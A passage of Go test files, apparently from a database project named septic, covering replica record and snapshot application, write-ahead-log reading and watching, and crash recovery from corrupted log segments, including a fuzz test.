	"encoding/json"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/obs"
)

// Unit tests for the replica apply path in isolation — the transport is
// exercised end to end by internal/repl; here the records and snapshots
// are hand-fed so every branch (dedup, skip, refusal, local durability)
// is reachable deterministically.

// replRecord encodes one replicated WAL record the way the primary's
// log stores it.
func replRecord(t *testing.T, rec walRecord) []byte {
	t.Helper()
	data, err := json.Marshal(&rec)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func putRecord(t *testing.T, dom, id, query string) []byte {
	t.Helper()
	m := modelFor(t, query)
	return replRecord(t, walRecord{Op: opPut, Dom: dom, ID: id, Model: &m, Sum: m.Fingerprint()})
}

func newReplica(t *testing.T) (*Septic, *ReplicaState) {
	t.Helper()
	sep := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
	if _, err := sep.RegisterDomain("shop", DefaultConfig()); err != nil {
		t.Fatal(err)
	}
	rs, err := sep.AttachReplicaSource()
	if err != nil {
		t.Fatal(err)
	}
	return sep, rs
}

func TestReplicaApplyRecordOps(t *testing.T) {
	sep, rs := newReplica(t)
	if !sep.IsReplica() || sep.ReplicaState() != rs {
		t.Fatal("replica mode not reflected on the Septic")
	}
	if _, err := sep.AttachReplicaSource(); err == nil {
		t.Fatal("second AttachReplicaSource accepted")
	}
	shop, _ := sep.Domain("shop")

	// put → model lands in the domain store.
	if err := rs.ApplyRecord(1, putRecord(t, "shop", "q1", "SELECT a FROM t WHERE b = 1")); err != nil {
		t.Fatal(err)
	}
	if shop.Store().ModelCount() != 1 {
		t.Fatalf("model count %d after put, want 1", shop.Store().ModelCount())
	}
	// approve, config, then delete — each routed through the replay path.
	if err := rs.ApplyRecord(2, replRecord(t, walRecord{Op: opApprove, Dom: "shop", ID: "q1"})); err != nil {
		t.Fatal(err)
	}
	cfg := toPersistedConfig(Config{Mode: ModeDetection, DetectSQLI: true})
	if err := rs.ApplyRecord(3, replRecord(t, walRecord{Op: opConfig, Dom: "shop", Cfg: &cfg})); err != nil {
		t.Fatal(err)
	}
	if got := shop.Config(); got.Mode != ModeDetection || !got.DetectSQLI {
		t.Fatalf("replicated config not applied: %+v", got)
	}
	if err := rs.ApplyRecord(4, replRecord(t, walRecord{Op: opDelete, Dom: "shop", ID: "q1"})); err != nil {
		t.Fatal(err)
	}
	if shop.Store().ModelCount() != 0 {
		t.Fatalf("model count %d after delete, want 0", shop.Store().ModelCount())
	}

	// Unroutable and undecodable records are counted, skipped, and still
	// advance the position — replay must converge on the applicable subset.
	if err := rs.ApplyRecord(5, putRecord(t, "nosuchdomain", "q2", "SELECT a FROM t WHERE b = 2")); err != nil {
		t.Fatal(err)
	}
	if err := rs.ApplyRecord(6, []byte("{not json")); err != nil {
		t.Fatal(err)
	}
	// A forged model (fingerprint mismatch) must not poison the store.
	m := modelFor(t, "SELECT a FROM t WHERE b = 3")
	forged := replRecord(t, walRecord{Op: opPut, Dom: "shop", ID: "q3", Model: &m, Sum: m.Fingerprint() + 1})
	if err := rs.ApplyRecord(7, forged); err != nil {
		t.Fatal(err)
	}
	if shop.Store().ModelCount() != 0 {
		t.Fatal("forged put reached the store")
	}
	// Redelivery at or below the applied position is the resume overlap:
	// absorbed, not reapplied.
	if err := rs.ApplyRecord(7, forged); err != nil {
		t.Fatal(err)
	}
	if err := rs.ApplyRecord(1, putRecord(t, "shop", "q1", "SELECT a FROM t WHERE b = 1")); err != nil {
		t.Fatal(err)
	}
	if shop.Store().ModelCount() != 0 {
		t.Fatal("duplicate put reapplied")
	}

	st := rs.Stats()
	if st.AppliedSeq != 7 || st.AppliedRecords != 4 || st.Skipped != 3 || st.DuplicateSeqs != 2 {
		t.Fatalf("stats %+v", st)
	}
}

func TestReplicaApplySnapshot(t *testing.T) {
	// A real primary builds the snapshot; the replica installs it.
	primary := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
	pshop, err := primary.RegisterDomain("shop", DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	ponly, err := primary.RegisterDomain("primary-only", DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	pp, err := primary.AttachPersistence(PersistenceOptions{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer pp.Close()
	pshop.Store().Put("q1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	ponly.Store().Put("q2", modelFor(t, "SELECT a FROM t WHERE b = 2"), false)
	barrier, snap, err := pp.ReplSnapshot()
	if err != nil {
		t.Fatal(err)
	}
	if barrier != pp.ReplLastSeq() {
		t.Fatalf("barrier %d != last seq %d", barrier, pp.ReplLastSeq())
	}

	rsep, rs := newReplica(t)
	// Pre-existing local state is replaced wholesale by the snapshot.
	rs.ApplyRecord(99, putRecord(t, "shop", "stale", "SELECT a FROM t WHERE b = 9"))
	if err := rs.ApplySnapshot(barrier, snap); err != nil {
		t.Fatal(err)
	}
	shop, _ := rsep.Domain("shop")
	if shop.Store().ModelCount() != 1 {
		t.Fatalf("snapshot installed %d models, want 1", shop.Store().ModelCount())
	}
	if _, ok := shop.Store().Get("stale"); ok {
		t.Fatal("stale pre-snapshot model survived the install")
	}
	// The barrier is authoritative even when it moves the position
	// BACKWARD from a bogus earlier apply.
	if rs.AppliedSeq() != barrier {
		t.Fatalf("applied %d after snapshot, want barrier %d", rs.AppliedSeq(), barrier)
	}
	st := rs.Stats()
	if st.Snapshots != 1 || st.SnapshotBytes != int64(len(snap)) {
		t.Fatalf("snapshot counters %+v", st)
	}
	if st.Skipped == 0 {
		t.Fatal("snapshot domain unknown to the replica was not counted as skipped")
	}

	// Rejection branches: garbage, wrong version, forged fingerprints.
	if err := rs.ApplySnapshot(barrier, []byte("{oops")); err == nil {
		t.Fatal("garbage snapshot accepted")
	}
	bad, _ := json.Marshal(&checkpointFile{Version: checkpointVersion + 1})
	if err := rs.ApplySnapshot(barrier, bad); err == nil || !strings.Contains(err.Error(), "version") {
		t.Fatalf("wrong-version snapshot: %v", err)
	}
	var cp checkpointFile
	if err := json.Unmarshal(snap, &cp); err != nil {
		t.Fatal(err)
	}
	for _, dom := range cp.Domains {
		for id, set := range dom.Sets {
			for i := range set.Sums {
				set.Sums[i]++
			}
			dom.Sets[id] = set
		}
	}
	forged, _ := json.Marshal(&cp)
	if err := rs.ApplySnapshot(barrier, forged); err == nil {
		t.Fatal("snapshot with forged fingerprints accepted")
	}
}

// TestReplicaLocalDurabilityResume is the restart contract: a replica
// with local persistence checkpoints installed snapshots and journals
// applied records, so a rebooted incarnation resumes after its durable
// position instead of starting over.
func TestReplicaLocalDurabilityResume(t *testing.T) {
	primary := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
	pshop, err := primary.RegisterDomain("shop", DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	pp, err := primary.AttachPersistence(PersistenceOptions{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer pp.Close()
	pshop.Store().Put("q1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	barrier, snap, err := pp.ReplSnapshot()
	if err != nil {
		t.Fatal(err)
	}

	dir := t.TempDir()
	boot := func() (*Septic, *ReplicaState, *Persistence) {
		sep := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
		if _, err := sep.RegisterDomain("shop", DefaultConfig()); err != nil {
			t.Fatal(err)
		}
		p, err := sep.AttachPersistence(PersistenceOptions{Dir: dir})
		if err != nil {
			t.Fatal(err)
		}
		rs, err := sep.AttachReplicaSource()
		if err != nil {
			t.Fatal(err)
		}
		return sep, rs, p
	}

	_, rs, p := boot()
	if err := rs.ApplySnapshot(barrier, snap); err != nil {
		t.Fatal(err)
	}
	next := barrier + 1
	if err := rs.ApplyRecord(next, putRecord(t, "shop", "q2", "SELECT a FROM t WHERE b = 2")); err != nil {
		t.Fatal(err)
	}
	if p.ReplAppliedSeq() != next {
		t.Fatalf("durable position %d, want %d", p.ReplAppliedSeq(), next)
	}
	p.Kill() // crash: nothing flushed beyond what the WAL already has

	sep2, rs2, p2 := boot()
	defer p2.Close()
	if got := rs2.AppliedSeq(); got != next {
		t.Fatalf("rebooted replica resumes after %d, want %d", got, next)
	}
	shop, _ := sep2.Domain("shop")
	if shop.Store().ModelCount() != 2 {
		t.Fatalf("rebooted replica has %d models, want 2", shop.Store().ModelCount())
	}
}

// TestReplicaApplyErrorOnDeadPersistence: a failed local append is
// counted, the memory apply stands, and the durable floor stays behind
// so a restart re-fetches the record.
func TestReplicaApplyErrorOnDeadPersistence(t *testing.T) {
	sep := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
	if _, err := sep.RegisterDomain("shop", DefaultConfig()); err != nil {
		t.Fatal(err)
	}
	p, err := sep.AttachPersistence(PersistenceOptions{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	rs, err := sep.AttachReplicaSource()
	if err != nil {
		t.Fatal(err)
	}
	p.Kill()
	if err := rs.ApplyRecord(1, putRecord(t, "shop", "q1", "SELECT a FROM t WHERE b = 1")); err != nil {
		t.Fatal(err)
	}
	shop, _ := sep.Domain("shop")
	if shop.Store().ModelCount() != 1 {
		t.Fatal("memory apply lost with the dead persistence")
	}
	st := rs.Stats()
	if st.ApplyErrors != 1 || st.AppliedSeq != 1 {
		t.Fatalf("stats %+v, want ApplyErrors 1 at seq 1", st)
	}
}

func TestReplicaReadOnlyAndPromote(t *testing.T) {
	hub := obs.NewHub(16)
	sep := New(DefaultConfig(),
		WithLogger(NewLogger(WithCheckedSampling(0))), WithObserver(hub))
	if _, err := sep.RegisterDomain("shop", DefaultConfig()); err != nil {
		t.Fatal(err)
	}
	rs, err := sep.AttachReplicaSource()
	if err != nil {
		t.Fatal(err)
	}
	shop, _ := sep.Domain("shop")
	if !shop.Store().ReadOnly() {
		t.Fatal("replica store accepts local writes")
	}
	if shop.Store().Put("q1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false) {
		t.Fatal("read-only store accepted a local put")
	}

	rs.ApplyRecord(1, putRecord(t, "shop", "q1", "SELECT a FROM t WHERE b = 1"))
	rs.SetConnState(ReplStreaming)
	rs.ObserveSourceSeq(5)
	rs.ObserveSourceSeq(3) // source head is monotonic
	st := rs.Stats()
	if st.SourceSeq != 5 || st.LagSeq != 4 || st.State != ReplStreaming {
		t.Fatalf("stats %+v", st)
	}
	// The repl.* gauges are registered on attach and track the counters.
	g := hub.Metrics.Snapshot().Gauges
	if g["repl.applied_seq"] != 1 || g["repl.lag_seq"] != 4 || g["repl.state"] != int64(ReplStreaming) {
		t.Fatalf("gauges %v", g)
	}

	rs.Promote()
	rs.Promote() // idempotent
	if sep.IsReplica() || !rs.Promoted() || rs.ConnState() != ReplPromoted {
		t.Fatal("promotion did not take")
	}
	if !shop.Store().Put("q2", modelFor(t, "SELECT a FROM t WHERE b = 2"), false) {
		t.Fatal("promoted store still read-only")
	}
	// Straggling stream traffic after promotion is refused, and the
	// transport can no longer move the state gauge off "promoted".
	if err := rs.ApplyRecord(2, putRecord(t, "shop", "q3", "SELECT a FROM t WHERE b = 3")); err == nil {
		t.Fatal("post-promotion record applied")
	}
	if err := rs.ApplySnapshot(9, nil); err == nil {
		t.Fatal("post-promotion snapshot applied")
	}
	rs.SetConnState(ReplDisconnected)
	if rs.ConnState() != ReplPromoted {
		t.Fatal("SetConnState overrode promotion")
	}
}

func TestReplConnStateString(t *testing.T) {
	want := map[ReplConnState]string{
		ReplDisconnected:  "disconnected",
		ReplConnecting:    "connecting",
		ReplSyncing:       "syncing",
		ReplStreaming:     "streaming",
		ReplPromoted:      "promoted",
		ReplConnState(42): "ReplConnState(42)",
		ReplConnState(-1): "ReplConnState(-1)",
	}
	for st, name := range want {
		if st.String() != name {
			t.Errorf("%d.String() = %q, want %q", int64(st), st.String(), name)
		}
	}
}

// TestReplWatchAndLastSeq covers the primary-side feed: the watcher
// fires for appends made after subscription, and ReplLastSeq tracks the
// head the replicas chase.
func TestReplWatchAndLastSeq(t *testing.T) {
	sep := New(DefaultConfig(), WithLogger(NewLogger(WithCheckedSampling(0))))
	shop, err := sep.RegisterDomain("shop", DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	p, err := sep.AttachPersistence(PersistenceOptions{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()

	w := p.ReplWatch(4)
	if w == nil {
		t.Fatal("no watcher from a live log")
	}
	defer w.Close()
	before := p.ReplLastSeq()
	shop.Store().Put("q1", modelFor(t, "SELECT a FROM t WHERE b = 1"), false)
	if p.ReplLastSeq() != before+1 {
		t.Fatalf("head %d after one put, want %d", p.ReplLastSeq(), before+1)
	}
	rec, ok := <-w.C()
	if !ok || rec.Seq != before+1 {
		t.Fatalf("watcher delivered seq %d (ok=%t), want %d", rec.Seq, ok, before+1)
	}
	recs, err := p.ReplReadFrom(before, 0)
	if err != nil || len(recs) != 1 || recs[0].Seq != before+1 {
		t.Fatalf("ReplReadFrom(%d): %d recs, err %v", before, len(recs), err)
	}
}
