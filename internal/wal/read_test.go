package wal

import (
	"fmt"
	"testing"
	"time"
)

// appendN appends n records "r<seq>" and returns the last sequence.
func appendN(t *testing.T, l *Log, n int) uint64 {
	t.Helper()
	var last uint64
	for i := 0; i < n; i++ {
		seq, err := l.Append([]byte(fmt.Sprintf("r%d", l.LastSeq()+1)))
		if err != nil {
			t.Fatalf("append: %v", err)
		}
		last = seq
	}
	return last
}

func TestReadFromOrderAndPosition(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever, SegmentSize: 64})
	defer l.Close()
	appendN(t, l, 20) // several sealed segments at SegmentSize 64

	recs, err := l.ReadFrom(0, 0)
	if err != nil {
		t.Fatalf("ReadFrom(0): %v", err)
	}
	if len(recs) != 20 {
		t.Fatalf("ReadFrom(0): %d records, want 20", len(recs))
	}
	for i, r := range recs {
		if r.Seq != uint64(i+1) {
			t.Fatalf("record %d out of order: seq %d", i, r.Seq)
		}
		if want := fmt.Sprintf("r%d", r.Seq); string(r.Data) != want {
			t.Fatalf("record %d: data %q, want %q", i, r.Data, want)
		}
	}

	// A mid-stream position returns strictly-greater sequences only.
	recs, err = l.ReadFrom(13, 0)
	if err != nil {
		t.Fatalf("ReadFrom(13): %v", err)
	}
	if len(recs) != 7 || recs[0].Seq != 14 {
		t.Fatalf("ReadFrom(13): %d records starting at %d", len(recs), recs[0].Seq)
	}

	// Caught up: nothing newer exists.
	if recs, err := l.ReadFrom(20, 0); err != nil || recs != nil {
		t.Fatalf("ReadFrom(head) = %d records, err %v", len(recs), err)
	}
}

func TestReadFromByteBudget(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()
	appendN(t, l, 10)

	// A 1-byte budget still yields a record; the caller pages with the
	// last sequence.
	var after uint64
	var total int
	for {
		recs, err := l.ReadFrom(after, 1)
		if err != nil {
			t.Fatalf("ReadFrom(%d): %v", after, err)
		}
		if recs == nil {
			break
		}
		if len(recs) != 1 {
			t.Fatalf("budget of 1 byte returned %d records", len(recs))
		}
		if recs[0].Seq != after+1 {
			t.Fatalf("page starts at %d, want %d", recs[0].Seq, after+1)
		}
		after = recs[0].Seq
		total++
	}
	if total != 10 {
		t.Fatalf("paged %d records, want 10", total)
	}
}

func TestReadFromAfterTrimExposesGap(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever, SegmentSize: 64})
	defer l.Close()
	appendN(t, l, 20)
	if _, err := l.TrimTo(12); err != nil {
		t.Fatalf("TrimTo: %v", err)
	}

	first := l.FirstSeq()
	if first <= 1 {
		t.Fatalf("FirstSeq %d after trim, want > 1", first)
	}
	recs, err := l.ReadFrom(0, 0)
	if err != nil {
		t.Fatalf("ReadFrom(0): %v", err)
	}
	// The gap is detectable: the result starts past after+1.
	if len(recs) == 0 || recs[0].Seq != first {
		t.Fatalf("post-trim read starts at %d, want FirstSeq %d", recs[0].Seq, first)
	}
	if recs[len(recs)-1].Seq != 20 {
		t.Fatalf("post-trim read ends at %d, want 20", recs[len(recs)-1].Seq)
	}
}

func TestFirstSeqEmptyLog(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()
	if got := l.FirstSeq(); got != 0 {
		t.Fatalf("FirstSeq on empty log = %d, want 0", got)
	}
}

func TestReadFromClosedLog(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	appendN(t, l, 3)
	l.Close()
	if _, err := l.ReadFrom(0, 0); err != ErrClosed {
		t.Fatalf("ReadFrom on closed log: %v, want ErrClosed", err)
	}
}

func TestWatchDeliversInOrder(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()
	appendN(t, l, 3) // pre-subscription records are not delivered

	w := l.Watch(16)
	if w == nil {
		t.Fatal("Watch returned nil on an open log")
	}
	defer w.Close()
	appendN(t, l, 5)
	for want := uint64(4); want <= 8; want++ {
		select {
		case rec := <-w.C():
			if rec.Seq != want {
				t.Fatalf("watcher delivered seq %d, want %d", rec.Seq, want)
			}
		case <-time.After(time.Second):
			t.Fatalf("watcher never delivered seq %d", want)
		}
	}
	select {
	case rec := <-w.C():
		t.Fatalf("unexpected extra record seq %d", rec.Seq)
	default:
	}
	if w.Lagged() {
		t.Fatal("watcher lagged with a roomy buffer")
	}
}

func TestWatchThenReadFromNoGap(t *testing.T) {
	// The no-gap protocol: subscribe BEFORE ReadFrom, and every record is
	// either in the read result or on the channel.
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()
	appendN(t, l, 5)

	w := l.Watch(64)
	defer w.Close()
	appendN(t, l, 5) // races the catch-up read in a real replica

	recs, err := l.ReadFrom(0, 0)
	if err != nil {
		t.Fatalf("ReadFrom: %v", err)
	}
	seen := make(map[uint64]bool)
	for _, r := range recs {
		seen[r.Seq] = true
	}
	for {
		select {
		case rec := <-w.C():
			seen[rec.Seq] = true
			continue
		default:
		}
		break
	}
	for seq := uint64(1); seq <= 10; seq++ {
		if !seen[seq] {
			t.Fatalf("seq %d in neither the read result nor the watcher", seq)
		}
	}
}

func TestWatchLaggedOnFullBuffer(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l.Close()

	w := l.Watch(1)
	defer w.Close()
	appendN(t, l, 5) // buffer of 1: four drops
	if !w.Lagged() {
		t.Fatal("watcher did not report lag after overflowing its buffer")
	}
	if w.Lagged() {
		t.Fatal("Lagged did not clear on read")
	}
	// The surviving record plus ReadFrom recovers the full range.
	rec := <-w.C()
	recs, err := l.ReadFrom(0, 0)
	if err != nil || len(recs) != 5 {
		t.Fatalf("recovery read: %d records, err %v", len(recs), err)
	}
	if rec.Seq != 1 {
		t.Fatalf("surviving buffered record seq %d, want 1", rec.Seq)
	}
}

func TestWatchClosedByLogClose(t *testing.T) {
	dir := t.TempDir()
	l, _, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	w := l.Watch(4)
	l.Close()
	select {
	case _, ok := <-w.C():
		if ok {
			t.Fatal("channel delivered a record after Close")
		}
	case <-time.After(time.Second):
		t.Fatal("watcher channel not closed by Log.Close")
	}
	// Watch on a closed log refuses.
	if l.Watch(4) != nil {
		t.Fatal("Watch on a closed log returned a watcher")
	}
}
