package wal

import (
	"bytes"
	"encoding/binary"
	"testing"
)

// FuzzWALRecover feeds arbitrary bytes to the recovery reader as a
// segment file and asserts the crash-safety contract no hand-written
// table can exhaust:
//
//   - recovery never panics and never errors on content (only I/O can
//     fail it);
//   - whatever it keeps is a valid, contiguous record sequence;
//   - it converges: a second recovery of the repaired directory is
//     clean and returns exactly the same records;
//   - the repaired log accepts appends and the appended record survives
//     the next recovery.
//
// The seed corpus covers the canonical corruptions: a torn tail, a
// bit-flipped CRC, a frame whose header lies about its length, an empty
// segment, and a valid multi-record segment (see testdata/fuzz and the
// f.Add seeds below).
func FuzzWALRecover(f *testing.F) {
	valid := append(frame(1, []byte("select * from t")), frame(2, []byte("insert into t"))...)
	f.Add([]byte{})                                      // empty segment
	f.Add(valid)                                         // valid multi-record segment
	f.Add(valid[:len(valid)-5])                          // torn tail
	f.Add(frame(1, bytes.Repeat([]byte("x"), 200))[:50]) // torn mid-payload
	flipped := append([]byte{}, valid...)
	flipped[frameHeaderSize] ^= 0x40 // bit-flipped payload → CRC mismatch
	f.Add(flipped)
	lying := append([]byte{}, valid...)
	binary.LittleEndian.PutUint32(lying[4:8], 0xFFFFFFFF) // lying length
	f.Add(lying)
	// Content starting past the segment name's floor (the harness writes
	// every input under the name for seq 1): a name/content mismatch is
	// corruption, truncated like any other bad frame.
	f.Add(frame(7, []byte("starts past one")))

	f.Fuzz(func(t *testing.T, raw []byte) {
		dir := t.TempDir()
		writeSegment(t, dir, 1, raw)

		var first []Record
		l, info, err := Open(Options{Dir: dir, Policy: FsyncNever}, func(r Record) error {
			first = append(first, r)
			return nil
		})
		if err != nil {
			t.Fatalf("recovery errored on content: %v", err)
		}
		if len(first) != info.Records {
			t.Fatalf("replayed %d records, info says %d", len(first), info.Records)
		}
		for i := 1; i < len(first); i++ {
			if first[i].Seq != first[i-1].Seq+1 {
				t.Fatalf("non-contiguous: seq %d after %d", first[i].Seq, first[i-1].Seq)
			}
		}
		if _, err := l.Append([]byte("appended-after-recovery")); err != nil {
			t.Fatalf("append after recovery: %v", err)
		}
		if err := l.Close(); err != nil {
			t.Fatalf("close: %v", err)
		}

		var second []Record
		l2, info2, err := Open(Options{Dir: dir, Policy: FsyncNever}, func(r Record) error {
			second = append(second, r)
			return nil
		})
		if err != nil {
			t.Fatalf("second recovery: %v", err)
		}
		defer l2.Close()
		if info2.Truncated || info2.TornSegments != 0 {
			t.Fatalf("recovery did not converge: %+v", info2)
		}
		if len(second) != len(first)+1 {
			t.Fatalf("second recovery has %d records, want %d", len(second), len(first)+1)
		}
		for i, r := range first {
			if r.Seq != second[i].Seq || !bytes.Equal(r.Data, second[i].Data) {
				t.Fatalf("record %d changed across recoveries", i)
			}
		}
		if string(second[len(second)-1].Data) != "appended-after-recovery" {
			t.Fatal("appended record lost")
		}
	})
}
