package wal

import (
	"encoding/binary"
	"errors"
	"hash/crc32"
	"os"
	"path/filepath"
	"testing"
)

// frame builds one valid frame for hand-assembled segment files.
func frame(seq uint64, payload []byte) []byte {
	f := make([]byte, frameHeaderSize+len(payload))
	binary.LittleEndian.PutUint32(f[4:8], uint32(len(payload)))
	binary.LittleEndian.PutUint64(f[8:16], seq)
	copy(f[frameHeaderSize:], payload)
	binary.LittleEndian.PutUint32(f[0:4], crc32.Checksum(f[4:], castagnoli))
	return f
}

// writeSegment writes raw bytes as the segment whose name claims it
// starts at firstSeq.
func writeSegment(t *testing.T, dir string, firstSeq uint64, raw []byte) {
	t.Helper()
	if err := os.WriteFile(filepath.Join(dir, segmentName(firstSeq)), raw, 0o644); err != nil {
		t.Fatal(err)
	}
}

func concat(bs ...[]byte) []byte {
	var out []byte
	for _, b := range bs {
		out = append(out, b...)
	}
	return out
}

func TestRecoverCorruptions(t *testing.T) {
	f1 := frame(1, []byte("alpha"))
	f2 := frame(2, []byte("beta"))
	f3 := frame(3, []byte("gamma"))

	bitFlipped := concat(f1, f2)
	bitFlipped[len(f1)+frameHeaderSize] ^= 0x01 // flip a payload byte of f2: CRC must catch it

	lyingLen := concat(f1, f2)
	// Claim a payload far past the cap; the reader must distrust it
	// rather than seek past EOF.
	binary.LittleEndian.PutUint32(lyingLen[len(f1)+4:len(f1)+8], MaxRecordSize+1)

	seqGap := concat(f1, frame(5, []byte("skipped")))

	cases := []struct {
		name     string
		segments map[uint64][]byte // firstSeq → raw bytes
		want     int               // records recovered
		torn     int
		dropped  int
		truncate bool
	}{
		{
			name:     "clean single segment",
			segments: map[uint64][]byte{1: concat(f1, f2, f3)},
			want:     3,
		},
		{
			name:     "valid multi-segment",
			segments: map[uint64][]byte{1: concat(f1, f2), 3: f3},
			want:     3,
		},
		{
			name:     "torn tail mid-frame",
			segments: map[uint64][]byte{1: concat(f1, f2, f3[:len(f3)-4])},
			want:     2, torn: 1, truncate: true,
		},
		{
			name:     "torn tail mid-header",
			segments: map[uint64][]byte{1: concat(f1, f2[:7])},
			want:     1, torn: 1, truncate: true,
		},
		{
			name:     "bit-flipped payload fails CRC",
			segments: map[uint64][]byte{1: bitFlipped},
			want:     1, torn: 1, truncate: true,
		},
		{
			name:     "lying length",
			segments: map[uint64][]byte{1: lyingLen},
			want:     1, torn: 1, truncate: true,
		},
		{
			name:     "sequence gap treated as corruption",
			segments: map[uint64][]byte{1: seqGap},
			want:     1, torn: 1, truncate: true,
		},
		{
			name:     "empty segment",
			segments: map[uint64][]byte{1: nil},
			want:     0,
		},
		{
			name:     "empty directory",
			segments: map[uint64][]byte{},
			want:     0,
		},
		{
			name:     "garbage-only segment",
			segments: map[uint64][]byte{1: []byte("this is not a wal segment at all....")},
			want:     0, torn: 1, truncate: true,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			for first, raw := range tc.segments {
				writeSegment(t, dir, first, raw)
			}
			l, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
			if len(recs) != tc.want || info.Records != tc.want {
				t.Fatalf("recovered %d records (info %+v), want %d", len(recs), info, tc.want)
			}
			if info.TornSegments != tc.torn {
				t.Fatalf("torn segments = %d, want %d (info %+v)", info.TornSegments, tc.torn, info)
			}
			if info.DroppedRecords != tc.dropped {
				t.Fatalf("dropped records = %d, want %d", info.DroppedRecords, tc.dropped)
			}
			if info.Truncated != tc.truncate {
				t.Fatalf("truncated = %t, want %t", info.Truncated, tc.truncate)
			}
			// The log stays appendable after any recovery...
			if _, err := l.Append([]byte("post-recovery")); err != nil {
				t.Fatalf("append after recovery: %v", err)
			}
			if err := l.Close(); err != nil {
				t.Fatalf("close: %v", err)
			}
			// ...and recovery converges: the second open is clean and sees
			// everything the first one kept, plus the new record.
			l2, recs2, info2 := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
			defer l2.Close()
			if info2.Truncated || info2.TornSegments != 0 {
				t.Fatalf("second recovery not converged: %+v", info2)
			}
			if len(recs2) != tc.want+1 {
				t.Fatalf("second recovery: %d records, want %d", len(recs2), tc.want+1)
			}
			for i := 1; i < len(recs2); i++ {
				if recs2[i].Seq != recs2[i-1].Seq+1 {
					t.Fatalf("non-contiguous recovery: %d then %d", recs2[i-1].Seq, recs2[i].Seq)
				}
			}
		})
	}
}

// TestMidLogCorruptionRefusedUnlessForced: invalid frames in a
// non-final segment can never be crash debris (rotation fsyncs before
// moving on), so the default Open refuses to boot over them — the
// intact later segments hold acknowledged records that truncation would
// silently drop. ForceRecover is the explicit opt-in to exactly that.
func TestMidLogCorruptionRefusedUnlessForced(t *testing.T) {
	f1 := frame(1, []byte("alpha"))
	f2 := frame(2, []byte("beta"))
	f3 := frame(3, []byte("gamma"))
	dir := t.TempDir()
	writeSegment(t, dir, 1, concat(f1, f2[:9])) // torn mid-log
	writeSegment(t, dir, 2, concat(f2, f3))     // intact beyond the tear

	if _, _, err := Open(Options{Dir: dir, Policy: FsyncNever}, nil); !errors.Is(err, ErrMidLogCorrupt) {
		t.Fatalf("mid-log corruption: err = %v, want ErrMidLogCorrupt", err)
	}
	// The refusal repaired nothing: both segments (and the damaged
	// bytes) are still there for forensics or manual repair.
	if names, _ := listSegments(dir); len(names) != 2 {
		t.Fatalf("refused open modified the directory: %v", names)
	}
	st, err := os.Stat(filepath.Join(dir, segmentName(1)))
	if err != nil || st.Size() != int64(len(f1)+9) {
		t.Fatalf("refused open truncated the damaged segment: %v, %v", st, err)
	}

	// The explicit override recovers what sits before the tear and
	// counts everything it dropped.
	l, recs, info := openCollect(t, Options{Dir: dir, Policy: FsyncNever, ForceRecover: true})
	if len(recs) != 1 || recs[0].Seq != 1 {
		t.Fatalf("forced recovery records: %+v", recs)
	}
	if info.TornSegments != 1 || info.DroppedRecords != 2 || !info.Truncated {
		t.Fatalf("forced recovery info: %+v", info)
	}
	if _, err := l.Append([]byte("after-force")); err != nil {
		t.Fatalf("append after forced recovery: %v", err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	// The repair converges: the next DEFAULT open is clean.
	l2, recs2, info2 := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
	defer l2.Close()
	if info2.Truncated || len(recs2) != 2 {
		t.Fatalf("post-force recovery: %+v (%d records)", info2, len(recs2))
	}
}

// TestSeqSeedsFromActiveSegmentName: after a checkpoint trim the sole
// surviving segment can hold zero valid records; the next sequence
// number must continue from the segment name's floor, never restart at
// 1 — restarted numbering would hide fresh acknowledged appends behind
// the checkpoint barrier's replay filter on the next boot.
func TestSeqSeedsFromActiveSegmentName(t *testing.T) {
	cases := map[string][]byte{
		"empty active segment":      nil,
		"fully torn active segment": []byte("not a valid frame, torn right after rotation"),
	}
	for name, raw := range cases {
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			writeSegment(t, dir, 501, raw)
			l, recs, _ := openCollect(t, Options{Dir: dir, Policy: FsyncNever})
			if len(recs) != 0 {
				t.Fatalf("recovered %d records from a recordless segment", len(recs))
			}
			seq, err := l.Append([]byte("first-after-trim"))
			if err != nil {
				t.Fatalf("append: %v", err)
			}
			if seq != 501 {
				t.Fatalf("append seq = %d, want 501 (the segment name's floor)", seq)
			}
			if err := l.Close(); err != nil {
				t.Fatal(err)
			}
